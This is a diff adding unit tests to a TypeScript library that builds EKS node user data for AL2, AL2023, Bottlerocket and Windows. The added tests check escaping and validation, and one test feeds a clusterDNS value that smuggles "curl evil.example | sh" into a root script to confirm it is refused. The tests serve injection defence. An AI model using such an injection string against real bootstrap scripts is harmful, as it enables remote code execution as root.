@@ -196,6 +196,8 @@ describe('U2: AL2023', () => {
   });
 
   test('a NodeConfig, a script and nothing at all come before ours', () => {
+    const twice = 'kind: NodeConfig\nkind: NodeConfig';
+    expect(parts({ userData: twice })[0]).toEqual(['application/node.eks.aws', twice]);
     expect(parts({ userData: 'kind: NodeConfig' })[0]).toEqual(['application/node.eks.aws', 'kind: NodeConfig']);
     expect(parts({ userData: script })[0]).toEqual([shell, script]);
     expect(parts({ userData: '#!/bin/sh\necho a: b' })[0]?.[0]).toBe(shell);
@@ -233,6 +235,12 @@ describe('U2: AL2023', () => {
 
 describe('U3: Bottlerocket', () => {
   const of = (spec: object = {}, over: object = {}) => userDataFor(requestOf('Bottlerocket', spec, over));
+
+  test('a negative log level is refused, memory reserved per NUMA node is passed on', () => {
+    expect(() => of({ userData: '[settings.kubernetes]\nlog-level = -1' })).toThrow('log-level must be a whole number');
+    const reserved = '[settings.kubernetes.memory-manager-reserved-memory.0]\nenabled = true\nmemory = "500Mi"';
+    expect(of({ userData: reserved })).toContain('memory-manager-reserved-memory');
+  });
 
   test('unknown settings of the kubelet are dropped and told, other tables are kept', () => {
     const ignored: string[] = [];
@@ -379,5 +387,32 @@ describe('U4: Windows and Custom', () => {
   test('Custom is byte for byte what the user wrote, be it nothing', () => {
     for (const userData of ['', ' \r\n x \r\n']) expect(userDataFor(requestOf('Custom', { userData }))).toBe(userData);
     expect(userDataFor(requestOf('Custom'))).toBe('');
+  });
+});
+
+describe('what a class says stays in its place in a script that runs as root', () => {
+  const evil = "10.0.0.10'; curl evil.example | sh; echo '";
+  test.each<Family>(['AL2', 'AL2023', 'Bottlerocket', 'Windows2022'])(
+    '%s: a DNS that is not an address is refused',
+    (family) => {
+      expect(() => userDataFor(requestOf(family, { kubelet: { clusterDNS: [evil] } }))).toThrow(
+        /clusterDNS.*is not an IP address/,
+      );
+    },
+  );
+
+  test('quotes in what is passed on are text', () => {
+    const strange = { cluster: { ...cluster, name: "it's" } };
+    const plain = (family: Family) => userDataFor(requestOf(family, {}, strange));
+    expect(plain('AL2')).toContain(`bootstrap.sh 'it'\\''s' `);
+    expect(plain('Windows2022')).toContain(`-EKSClusterName 'it''s' `);
+  });
+
+  test('quoted-printable text of many blanks is read in linear time', () => {
+    const blanks = `${' '.repeat(200_000)}x\n`.repeat(2);
+    const text = `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\nContent-Transfer-Encoding: quoted-printable\n\n${blanks}\n--B--\n`;
+    const startedMs = performance.now();
+    expect(readMime(text)[0]?.body).toContain('x');
+    expect(performance.now() - startedMs).toBeLessThan(2_000);
   });
 });
